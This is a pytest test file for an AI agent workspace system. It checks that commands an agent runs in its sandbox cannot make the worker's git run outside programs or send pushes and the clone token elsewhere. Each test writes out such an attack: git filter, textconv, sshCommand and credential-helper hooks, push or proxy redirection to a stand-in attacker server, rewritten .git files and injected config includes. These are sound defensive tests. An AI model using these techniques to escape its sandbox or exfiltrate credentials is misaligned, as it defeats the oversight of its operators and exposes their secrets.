"""The worker's git in a worktree the agent can write. A sandboxed command runs as the worker's
user, so it can write the worktree's git metadata, the shared clone's config and the worker's
own ~/.gitconfig. None of it may make the worker's git (checkpoints, pushes, the git tools) run
a program outside the sandbox, or send the push, and the clone token with it, anywhere but the
remote the worker knows. Each attack is written the way a command could: `git config` run in
the worktree, or plain file writes."""

from __future__ import annotations

import base64
import os
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest

from cardloop.integrations.workspace import Sandbox, SandboxLimits
from cardloop.integrations.workspace.errors import WorkspaceError
from cardloop.integrations.workspace.manager import Workspace, WorkspaceManager
from cardloop.integrations.workspace.tools import TOOLS, Toolbox, ToolContext
from tests.cardloop.integrations.workspace.conftest import make_card
from tests.cardloop.integrations.workspace.git_http import GitHTTPServer, git_http_server
from tests.sample_remote import SAMPLE_REPO_NAME, Remote, git, push_sample_repo

TOKEN = "ghp_cloneTokenMustNotLeak0123456789abcdef"
RETRY = "app/webhooks/retry.py"


def toolbox(manager: WorkspaceManager, ws: Workspace) -> Toolbox:
    return Toolbox(ToolContext(ws.path, ws.home, Sandbox(SandboxLimits(timeout=60)),
                               git_env=lambda: manager.git_env(ws)), tuple(TOOLS))


def agent(manager: WorkspaceManager, ws: Workspace, command: str) -> str:
    """`command` as the agent's run_command runs it: in the sandbox, in the worktree."""
    box = Toolbox(ToolContext(ws.path, ws.home, Sandbox(SandboxLimits(timeout=60))), ("run_command",))
    result = box.execute("run_command", {"command": command})
    assert not result.is_error, result.text
    return result.text


def change(ws: Workspace, path: str = RETRY) -> None:
    f = ws.path / path
    f.write_text(f.read_text() + "# changed\n")


@pytest.fixture
def mark(tmp_path: Path) -> Path:
    return tmp_path / "program-ran"


@pytest.fixture
def ws(manager: WorkspaceManager) -> Workspace:
    return manager.open(make_card())


@pytest.fixture
def attacker_remote(tmp_path: Path) -> Path:
    bare = tmp_path / "attacker.git"
    git("init", "--quiet", "--bare", str(bare), cwd=tmp_path)
    return bare


def refs(bare: Path) -> str:
    return git("for-each-ref", cwd=bare)


def test_filter_drivers_the_agent_configures_never_run_in_a_checkpoint(
    manager: WorkspaceManager, ws: Workspace, remote: Remote, mark: Path
) -> None:
    agent(manager, ws, f"git config filter.x.clean 'touch {mark}; cat' && "
                       f"git config filter.x.smudge 'touch {mark}; cat' && "
                       f"git config filter.y.process 'touch {mark}' && "
                       "printf '*.py filter=x\\n*.md filter=y\\n' > .gitattributes")
    change(ws)
    change(ws, "README.md")
    done = manager.checkpoint(ws, run="r1", turn=1)
    assert not mark.exists()
    assert done.pushed and remote.head(ws.branch) == done.sha
    assert remote.show(ws.branch, RETRY).endswith("# changed\n")


def test_textconv_and_external_diff_never_run_in_the_git_tools(
    manager: WorkspaceManager, ws: Workspace, mark: Path
) -> None:
    agent(manager, ws, f"git config diff.x.textconv 'touch {mark}; cat' && "
                       f"git config diff.external 'touch {mark}; true' && "
                       f"git config filter.x.clean 'touch {mark}; cat' && "
                       "echo '*.py diff=x filter=x' > .git-attrs && "
                       "cp .git-attrs \"$(git rev-parse --git-common-dir)/info/attributes\"")
    change(ws)
    box = toolbox(manager, ws)
    diff = box.execute("git_diff", {})
    status = box.execute("git_status", {})
    listed = box.execute("list_files", {})
    assert not (diff.is_error or status.is_error or listed.is_error), (diff.text, status.text, listed.text)
    assert "+# changed" in diff.text and RETRY in status.text
    assert not mark.exists()


@pytest.mark.parametrize("key", ["core.sshCommand", "remote.origin.receivepack"])
def test_programs_named_in_config_never_run_on_a_push(
    manager: WorkspaceManager, ws: Workspace, remote: Remote, mark: Path, key: str
) -> None:
    real = remote.url_template.format(repo=SAMPLE_REPO_NAME)
    # core.sshCommand runs for an ssh:// remote (the agent's URL, if the worker took it);
    # receivepack is the program a push to a local remote starts.
    redirect = "" if "receivepack" in key else f"git config url.ssh://git@127.0.0.1/x.git.insteadOf {real} && "
    agent(manager, ws, f"{redirect}git config {key} 'touch {mark}; false'")
    change(ws)
    done = manager.checkpoint(ws, run="r1", turn=1)
    assert not mark.exists()
    assert remote.head(ws.branch) == done.sha


@pytest.mark.parametrize("attack", ["remote.origin.url", "remote.origin.pushurl", "insteadOf", "pushInsteadOf"])
def test_a_redirected_push_lands_only_in_the_real_remote(
    manager: WorkspaceManager, ws: Workspace, remote: Remote, attacker_remote: Path, attack: str
) -> None:
    real = remote.url_template.format(repo=SAMPLE_REPO_NAME)
    evil = f"file://{attacker_remote}"
    command = {"remote.origin.url": f"git config remote.origin.url {evil}",
               "remote.origin.pushurl": f"git config remote.origin.pushurl {evil}",
               "insteadOf": f"git config url.{evil}.insteadOf {real}",
               "pushInsteadOf": f"git config url.{evil}.pushInsteadOf {real}"}[attack]
    agent(manager, ws, command)
    change(ws)
    done = manager.checkpoint(ws, run="r1", turn=1)
    assert remote.head(ws.branch) == done.sha
    assert refs(attacker_remote) == ""


@pytest.fixture
def http_remote(tmp_path: Path) -> Iterator[GitHTTPServer]:
    push_sample_repo(tmp_path / "served")
    with git_http_server(tmp_path / "served") as server:
        yield server


@pytest.fixture
def attacker() -> Iterator[GitHTTPServer]:
    with git_http_server(None) as server:
        yield server


@pytest.mark.parametrize("attack", ["http.proxy", "http.<url>.proxy", "insteadOf", "remote.origin.url",
                                    "include.path"])
def test_the_token_never_goes_to_a_host_the_agent_names(
    tmp_path: Path, http_remote: GitHTTPServer, attacker: GitHTTPServer, attack: str
) -> None:
    manager = WorkspaceManager(tmp_path / "ws", clone_url_template=f"{http_remote.base}{{repo}}.git", token=TOKEN,
                               depth=10, git_timeout=30)
    ws = manager.open(make_card())
    included = ws.home / "included.gitconfig"
    included.write_text(f"[http]\n\tproxy = {attacker.base}\n")
    command = {"http.proxy": f"git config http.proxy {attacker.base}",
               "http.<url>.proxy": f"git config http.{http_remote.base}.proxy {attacker.base}",
               "insteadOf": f"git config url.{attacker.base}.insteadOf {http_remote.base}",
               "remote.origin.url": f"git config remote.origin.url {attacker.base}{SAMPLE_REPO_NAME}.git",
               "include.path": f"git config include.path {included}"}[attack]
    agent(manager, ws, command)
    change(ws)
    try:
        done = manager.checkpoint(ws, run="r1", turn=1)
    finally:
        sent = [base64.b64decode(auth.split()[-1]).decode() for _, _, auth in attacker.seen if auth]
        assert not any(TOKEN in s for s in sent), "the clone token reached the agent's host"
        assert attacker.seen == []
    assert f"x-access-token:{TOKEN}" in [base64.b64decode(auth.split()[-1]).decode()
                                         for _, _, auth in http_remote.seen if auth]
    assert git("rev-parse", f"refs/heads/{ws.branch}",
               cwd=tmp_path / "served" / f"{SAMPLE_REPO_NAME}.git").strip() == done.sha


@pytest.mark.parametrize("key", ["core.askPass", "credential.helper", "credential.<url>.helper"])
def test_credential_programs_never_run(tmp_path: Path, http_remote: GitHTTPServer, mark: Path, key: str) -> None:
    # No token configured: the remote's 401 makes git look for credentials, where a helper or an
    # askpass program the agent named would answer.
    manager = WorkspaceManager(tmp_path / "ws", clone_url_template=f"{http_remote.base}{{repo}}.git",
                               depth=10, git_timeout=30)
    with pytest.raises(WorkspaceError):
        manager.open(make_card())  # the clone fails too, but sets up the directories
    clone = tmp_path / "ws" / "clones" / SAMPLE_REPO_NAME
    git("clone", "--quiet", str(tmp_path / "served" / f"{SAMPLE_REPO_NAME}.git"), str(clone), cwd=tmp_path)
    git("remote", "set-url", "origin", f"{http_remote.base}{SAMPLE_REPO_NAME}.git", cwd=clone)
    script = tmp_path / "askpass.sh"
    script.write_text(f"#!/bin/sh\ntouch {mark}\necho x\n")
    script.chmod(0o755)
    name = {"core.askPass": "core.askPass", "credential.helper": "credential.helper",
            "credential.<url>.helper": f"credential.{http_remote.base}.helper"}[key]
    value = str(script) if key == "core.askPass" else f"!{script}"
    git("config", name, value, cwd=clone)
    with pytest.raises(WorkspaceError):
        manager.open(make_card())
    assert not mark.exists()


def test_a_rewritten_dot_git_file_does_not_move_the_workers_git(
    manager: WorkspaceManager, ws: Workspace, remote: Remote, attacker_remote: Path, mark: Path
) -> None:
    # A gitdir of the agent's making, with its own config, and the worktree's .git file pointing at it.
    agent(manager, ws, f"git init -q \"$HOME/evil\" && cd \"$HOME/evil\" && "
                       f"git config filter.x.clean 'touch {mark}; cat' && "
                       f"git config remote.origin.url file://{attacker_remote} && "
                       f"git config core.worktree {ws.path}")
    (ws.path / ".git").write_text(f"gitdir: {ws.home / 'evil' / '.git'}\n")
    (ws.path / ".gitattributes").write_text("* filter=x\n")
    change(ws)
    done = manager.checkpoint(ws, run="r1", turn=1)
    assert not mark.exists()
    assert remote.head(ws.branch) == done.sha and refs(attacker_remote) == ""
    assert remote.show(ws.branch, RETRY).endswith("# changed\n")
    # The agent's own git is back on the real worktree.
    assert agent(manager, ws, "git log -1 --format=%H").split()[-1] == done.sha


def test_an_include_in_the_shared_clones_config_is_not_followed(
    manager: WorkspaceManager, ws: Workspace, remote: Remote, attacker_remote: Path, mark: Path
) -> None:
    included = ws.home / "inc.gitconfig"
    included.write_text(f"[filter \"x\"]\n\tclean = touch {mark}; cat\n"
                        f"[remote \"origin\"]\n\tpushurl = file://{attacker_remote}\n")
    common = Path(agent(manager, ws, "git rev-parse --path-format=absolute --git-common-dir").split()[-1])
    with (common / "config").open("a") as f:  # a plain write to the clone every worktree shares
        f.write(f"[include]\n\tpath = {included}\n[includeIf \"gitdir:/\"]\n\tpath = {included}\n")
    (ws.path / ".gitattributes").write_text("* filter=x\n")
    change(ws)
    done = manager.checkpoint(ws, run="r1", turn=1)
    assert not mark.exists()
    assert remote.head(ws.branch) == done.sha and refs(attacker_remote) == ""


def test_a_worktree_config_is_not_read(manager: WorkspaceManager, ws: Workspace, remote: Remote,
                                       mark: Path) -> None:
    agent(manager, ws, f"git config extensions.worktreeConfig true && "
                       f"git config --worktree filter.x.clean 'touch {mark}; cat' && "
                       "echo '* filter=x' > .gitattributes")
    change(ws)
    done = manager.checkpoint(ws, run="r1", turn=1)
    assert not mark.exists() and remote.head(ws.branch) == done.sha


def test_the_workers_own_global_config_is_not_read(
    manager: WorkspaceManager, ws: Workspace, remote: Remote, mark: Path, tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch
) -> None:
    worker_home = tmp_path / "worker-home"
    worker_home.mkdir()
    monkeypatch.setenv("HOME", str(worker_home))
    monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)
    # The worker's HOME is as writable to a command as the worktree.
    agent(manager, ws, f"printf '[filter \"x\"]\\n\\tclean = touch {mark}; cat\\n' > {worker_home}/.gitconfig && "
                       "echo '* filter=x' > .gitattributes")
    change(ws)
    done = manager.checkpoint(ws, run="r1", turn=1)
    assert not mark.exists() and remote.head(ws.branch) == done.sha


def test_the_agents_own_git_works_as_before(manager: WorkspaceManager, ws: Workspace, remote: Remote) -> None:
    agent(manager, ws, "git config user.name 'Agent Smith' && git config user.email agent@example.invalid")
    change(ws)
    first = manager.checkpoint(ws, run="r1", turn=1)
    change(ws, "README.md")
    out = agent(manager, ws, "git status --short && git diff --stat && git add -A && git commit -q -m mine && "
                             "git log -2 --format='%an %s'")
    assert "Agent Smith mine" in out and "cardloop: " in out
    second = manager.checkpoint(ws, run="r1", turn=2)
    assert second.pushed and not second.committed and remote.head(ws.branch) == second.sha != first.sha
    # What the worker keeps of the clone's config: the remote and the agent's identity.
    config = subprocess.run(["git", "config", "--list", "--local"], cwd=ws.path, capture_output=True, text=True,
                            check=True).stdout
    assert f"remote.origin.url={remote.url_template.format(repo=SAMPLE_REPO_NAME)}" in config
    assert "user.name=Agent Smith" in config


@pytest.mark.parametrize("kind", ["fifo", "symlink to /dev/zero", "symlink to a config elsewhere"])
def test_a_config_that_is_not_a_file_neither_hangs_nor_is_followed(
    manager: WorkspaceManager, ws: Workspace, remote: Remote, tmp_path: Path, mark: Path, kind: str
) -> None:
    config = manager.dirs(ws).common_dir / "config"
    elsewhere = tmp_path / "elsewhere.gitconfig"
    elsewhere.write_text(f"[filter \"x\"]\n\tclean = touch {mark}; cat\n")
    config.unlink()
    if kind == "fifo":
        os.mkfifo(config)
    else:
        config.symlink_to("/dev/zero" if "zero" in kind else elsewhere)
    (ws.path / ".gitattributes").write_text("* filter=x\n")
    change(ws)
    done = manager.checkpoint(ws, run="r1", turn=1)
    assert remote.head(ws.branch) == done.sha and not mark.exists()
    assert config.is_file() and not config.is_symlink()
    assert elsewhere.read_text().startswith("[filter")  # replaced, not written through
